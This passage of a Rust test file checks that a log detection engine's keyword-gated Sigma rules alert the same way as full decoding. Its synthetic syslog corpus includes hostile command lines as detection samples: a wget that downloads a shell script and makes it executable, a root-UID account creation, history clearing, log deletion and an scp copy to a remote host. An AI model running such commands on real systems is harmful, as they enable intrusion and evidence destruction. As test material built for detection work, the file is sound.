            (r#"<14>Nov 30 00:00:06 h {"proto":"icmp","PROTO":"ICMP"}"#, 1),
            ("<14>Nov 30 00:00:07 h <Event><Data Name='IN'>a</Data><Data Name='SRC'>b</Data><Data Name='D&#80;T'>22</Data></Event>", 1),
        ];
        let mut corpus = Vec::new();
        for i in 0..42u32 {
            let s = i % 60;
            corpus.push(format!(
                r#"<189>Nov 30 00:01:{s:02} fgt devname="fgt" srcip=10.0.0.{i} dstport=5555 action="accept""#
            ));
            corpus.push(format!(
                "<86>Nov 30 00:01:{s:02} web-{i} sshd[12]: Accepted password for root from 10.0.0.{i} port 22 ssh2"
            ));
            corpus.push(format!(
                r#"<14>1 2026-11-30T00:01:{s:02}Z h app 1 - [meta port="22"] started"#
            ));
            corpus.push(naming[i as usize % naming.len()].0.to_string());
        }
        let seen =
            gated_agrees_with_full(&mut gated, &mut full, &corpus, 120, |line, n| match naming
                .iter()
                .find(|(text, _)| *text == line)
            {
                Some((_, alerts)) => assert_eq!(n, *alerts, "{line}"),
                None => assert_eq!(n, 0, "{line}"),
            });
        assert_eq!(seen.detections.len(), 6 * 7);
    }

    /// Every rule file under `dir`, recursively, in path order.
    fn rule_files(dir: &std::path::Path, out: &mut Vec<shardwatch_rules::RuleSource>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                rule_files(&path, out);
            } else if path.extension().is_some_and(|ext| ext == "yml") {
                out.push(shardwatch_rules::RuleSource {
                    origin: path.display().to_string(),
                    text: std::fs::read_to_string(&path).unwrap(),
                });
            }
        }
    }

    /// SigmaHQ's Linux built-in rules: the keyword rules whose log source
    /// is all of `product: linux` are gated by their keywords in the
    /// message, the rest by program name, so lines with neither skip
    /// their payload's decode; lines with a keyword (in any case, in
    /// plain text or a JSON payload) are decoded and alert exactly as
    /// when every payload is decoded.
    #[test]
    fn sigmahq_linux_keyword_rules_gate_lines_by_their_message() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../shared/data/sigma/rules/linux/builtin");
        let mut sources = Vec::new();
        rule_files(&dir, &mut sources);
        let (rules, errors) = RuleSet::compile_lenient(&sources);
        assert!(errors.is_empty(), "{errors:?}");
        assert!(rules.detection_count() >= 20, "{}", rules.detection_count());
        assert!(
            rules.header_gate_blocker().is_none(),
            "{:?}",
            rules.header_gate_blocker()
        );
        let rules = Arc::new(rules);
        let (mut gated, mut full) = gated_and_full(&rules, PipelineOptions::default);
        let mut corpus = lines();
        let keyword_lines = [
            "<38>Nov 30 00:02:01 web-1 bash[77]: user ran RM /var/log/syslog",
            "<86>Nov 30 00:02:02 web-1 useradd[1337]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash",
            "<13>Nov 30 00:02:03 web-1 kernel: bpf_probe_write_user called by pid 4",
            "<13>Nov 30 00:02:04 web-1 bash: History -C",
            "<13>Nov 30 00:02:05 web-1 bash: scp a.tar root@10.0.0.2:/tmp",
            "<14>Nov 30 00:02:06 web-1 auditor: {\"cmd\":\"history -c\",\"uid\":0}",
            "<14>1 2026-11-30T00:02:07Z web-1 app 1 - - wget http://x/shell.sh -O /tmp/x; chmod +x /tmp/x",
        ];
        for i in 0..40u32 {
            corpus.push(format!(
                "<86>Nov 30 00:03:{:02} web-1 CRON[{i}]: pam_unix(cron:session): session opened for user root",
                i % 60
            ));
            corpus.push(format!(
                "<14>Nov 30 00:03:{:02} web nginx: {{\"status\":200,\"path\":\"/h{i}\"}}",
                i % 60
            ));
            corpus.push(keyword_lines[i as usize % keyword_lines.len()].to_string());
        }
        let seen_gated =
            gated_agrees_with_full(&mut gated, &mut full, &corpus, 150, |line, detections| {
                if keyword_lines.contains(&line) {
                    assert!(detections > 0, "no alert for {line}");
                }
            });
        // The keyword lines fire six different rules (both history lines
        // the same one).
        let fired: std::collections::BTreeSet<&str> = seen_gated
            .detections
            .iter()
            .map(|(rule, _)| rules.detection(*rule as usize).title.as_str())
            .collect();
        assert_eq!(fired.len(), 6, "{fired:?}");
    }

    #[test]
    fn remembered_shapes_give_what_a_fresh_pipeline_gives() {
        // A fresh pipeline per line has remembered nothing, so every line
        // is aliased and indexed name by name; one pipeline over all the
        // lines aliases and indexes most of them from shapes.
        let received_ns = 1_796_000_000_000_000_000;
        let mut shared = pipeline();
        let mut from_shapes = Seen::default();
        let mut fresh = Seen::default();
        for line in lines() {
            shared.process(line.as_bytes(), received_ns, &mut from_shapes);
            pipeline().process(line.as_bytes(), received_ns, &mut fresh);
        }
        assert!(
            from_shapes.detections.len() > 60,
            "{}",
            from_shapes.detections.len()
        );
        assert!(from_shapes
            .other
            .iter()
            .any(|o| o.starts_with("flagged timestamp_skew")));
        assert_eq!(from_shapes.detections, fresh.detections);
        assert_eq!(from_shapes.other, fresh.other);
    }
}
